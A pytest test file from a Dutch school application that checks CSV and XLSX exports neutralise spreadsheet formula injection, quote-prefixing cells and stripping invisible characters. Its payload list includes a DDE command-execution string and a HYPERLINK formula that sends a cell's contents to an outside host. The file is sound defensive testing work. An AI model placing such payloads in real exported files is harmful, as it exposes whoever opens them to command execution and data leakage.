"""Cells that a spreadsheet must not run, in both forms of the list."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from academie.core.spreadsheets.cells import clean_cell, csv_cell
from academie.core.spreadsheets.files import csv_file, xlsx

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "＝1+1",
    "﹦1+1",
    "＋1",
    "﹢1",
    "⁺1",
    "－1",
    "﹣1",
    "−1",
    "＠SUM(A1)",
    "﹫SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://voorbeeld.nl?"&A1,"klik")',
    "%0A=1+1",
]
HARMLESS = ["Anna Bakker", "De Brug; Noord", 'Zeg "ja"', "'t Lokaal", "5", "a=b", "jan@school.nl"]


def read_csv(content):
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_begins_with_a_quote(payload):
    assert csv_cell(payload).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text):
    assert csv_cell(text) == text


def test_a_telephone_number_keeps_its_plus():
    assert csv_cell("+31 6 12345678") == "'+31 6 12345678"


def test_what_nobody_sees_goes_and_a_name_stays_whole():
    assert clean_cell(" Zoë\u200b\x00 d’Arc\r\nDe Boer ") == "Zoë d’Arc  De Boer"


def test_csv_is_what_dutch_excel_reads():
    content = csv_file(("Naam", "Plaats"), [("Zoë; Brug", '"=1')])

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert b"\n" not in content.replace(b"\r\n", b"")
    assert read_csv(content) == [["Naam", "Plaats"], ["Zoë; Brug", '"=1']]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula(payload):
    sheet = load_workbook(BytesIO(xlsx(("Naam",), [(payload,)], sheet_name="Lijst"))).active

    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == clean_cell(payload)
    # Who edits the cell keeps a text.
    assert sheet["A2"].quotePrefix


def test_numbers_and_dates_in_a_workbook_are_text():
    row = ("12", "23-11-2026 10:00", "", "Zoë\ufffe \ud800x")
    sheet = load_workbook(BytesIO(xlsx(("a", "b", "c", "d"), [row], sheet_name="Lijst"))).active

    assert [cell.data_type for cell in sheet[2] if cell.value is not None] == ["s", "s", "s"]
    assert [cell.value for cell in sheet[2]] == ["12", "23-11-2026 10:00", None, "Zoë x"]
    assert {cell.number_format for cell in sheet[2]} == {"@"}
    assert sheet.freeze_panes == "A2"
